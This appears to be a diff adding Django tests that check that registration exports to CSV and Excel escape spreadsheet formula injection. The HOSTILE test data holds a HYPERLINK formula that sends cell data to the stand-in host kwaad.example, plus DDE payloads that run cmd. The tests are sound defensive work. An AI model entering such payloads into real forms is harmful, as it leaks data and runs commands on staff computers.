@@ -1,10 +1,13 @@
+import codecs
 import csv
 import io
 
+import openpyxl
 import pytest
 from django.core import mail
 from django.urls import reverse
 
+from core.exports import FORMULA_PREFIXES
 from events.factories import RegistrationFactory
 from events.models import RegistrationState
 from tests.manifest.test_signature_admin import user_in
@@ -51,6 +54,68 @@ def test_staff_export_the_registrations_as_csv(moderator_client, event):
     assert row[0] == "PET Heerhugowaard"
     assert "juf@regenboog.example.nl" in row
     assert row[header.index("Plaatsen")] == "26"
+
+
+# What an attacker types into the public form so that a spreadsheet runs it (issue 12, row 7).
+HOSTILE = {
+    "school_name": '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik hier, juf Renée")',
+    "school_reference": "-2+3+cmd|' /C calc'!A0",
+    "contact_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "phone": "+31 20 123 4567",
+}
+
+
+def register_hostile_class(client, event):
+    response = client.post(
+        f"{event.url}aanmelden/",
+        {
+            **HOSTILE,
+            "groups": ["groep 7"],
+            "pupils": "20",
+            "adults": "2",
+            "email": "juf@kwaad.example",
+            "privacy_consent": "on",
+        },
+    )
+    assert response.status_code == 303
+
+
+def export(client, event, export_format):
+    response = client.get(LIST_URL, {"event": event.pk, "export": export_format})
+    assert response.status_code == 200
+    return response, b"".join(response.streaming_content)
+
+
+def test_the_csv_export_writes_no_formulas_and_is_utf8_with_a_bom(moderator_client, event):
+    register_hostile_class(moderator_client, event)
+    response, body = export(moderator_client, event, "csv")
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert body.startswith(codecs.BOM_UTF8)
+    [header, row] = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["School"] == "'" + HOSTILE["school_name"]
+    assert cells["BRIN-nummer of gemeente"] == "'" + HOSTILE["school_reference"]
+    assert cells["Naam"] == "'" + HOSTILE["contact_name"]
+    assert cells["Telefoonnummer"] == "'" + HOSTILE["phone"]
+    assert not [cell for cell in row if cell.startswith(FORMULA_PREFIXES)]
+
+
+def test_the_excel_export_keeps_formulas_as_marked_text(moderator_client, event):
+    register_hostile_class(moderator_client, event)
+    _, body = export(moderator_client, event, "xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
+    header = [cell.value for cell in sheet[1]]
+    row = dict(zip(header, sheet[2], strict=True))
+    for heading, field in [
+        ("School", "school_name"),
+        ("BRIN-nummer of gemeente", "school_reference"),
+        ("Naam", "contact_name"),
+        ("Telefoonnummer", "phone"),
+    ]:
+        cell = row[heading]
+        # The value as it came in, typed as text and marked so Excel never evaluates it.
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE[field], "s", True)
+    assert row["Aantal leerlingen"].value == 20
 
 
 def test_the_explorer_links_an_event_to_its_registrations(admin_client, event):
